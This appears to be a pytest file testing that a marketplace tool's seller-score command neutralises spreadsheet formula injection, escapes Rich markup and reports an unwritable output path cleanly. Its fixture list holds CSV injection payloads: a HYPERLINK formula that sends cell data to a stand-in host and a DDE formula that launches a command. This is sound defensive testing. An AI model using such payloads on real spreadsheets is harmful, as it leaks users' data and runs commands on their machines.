"""Red team, seller risk: a seller key is the marketplace's own text. ``sellers score --out
x.csv`` wrote it as is, so a seller named ``=HYPERLINK(...)`` became a live formula in the
analyst's spreadsheet; the score table rendered it as Rich markup (``[/x]`` crashed the command
with a traceback); an --out that cannot be written ended in a traceback too."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from ringfence.cli.main import app
from ringfence.marketplace import service

EVIL = ['=HYPERLINK("http://evil.test/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "[/x]"]


@pytest.fixture
def scores(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> pa.Table:
    monkeypatch.setenv("RINGFENCE_DATA_DIR", str(tmp_path / "data"))
    table = pa.table(
        {
            "seller": [*EVIL, "plain-7"],
            "score": [0.9, 0.8, 0.7, 0.1],
            "reasons": ["-account age 3 days (+1.2)", "x", "y", "z"],
        }
    )
    monkeypatch.setattr(service, "score_sellers", lambda settings, day=None: table)
    return table


def test_csv_scores_neutralise_formulas(scores: pa.Table, tmp_path: Path) -> None:
    out = tmp_path / "scores.csv"
    result = CliRunner().invoke(app, ["sellers", "score", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["seller"] for r in rows] == ["'" + EVIL[0], "'" + EVIL[1], "[/x]", "plain-7"]
    assert rows[0]["reasons"].startswith("'-account")
    assert [float(r["score"]) for r in rows] == scores.column("score").to_pylist()


def test_parquet_scores_keep_the_keys_as_given(scores: pa.Table, tmp_path: Path) -> None:
    out = tmp_path / "scores.parquet"
    assert CliRunner().invoke(app, ["sellers", "score", "--out", str(out)]).exit_code == 0
    assert pq.read_table(out).column("seller").to_pylist() == scores.column("seller").to_pylist()


def test_the_score_table_prints_keys_literally(scores: pa.Table) -> None:
    result = CliRunner().invoke(app, ["sellers", "score"])
    assert result.exit_code == 0, result.output
    assert "[/x]" in result.output


def test_an_unwritable_out_is_one_error_line(scores: pa.Table, tmp_path: Path) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    result = CliRunner().invoke(app, ["sellers", "score", "--out", str(blocker / "s.csv")])
    assert result.exit_code == 2, result.output
    assert "cannot write" in result.output
    assert isinstance(result.exception, SystemExit)  # typer.Exit, not a traceback
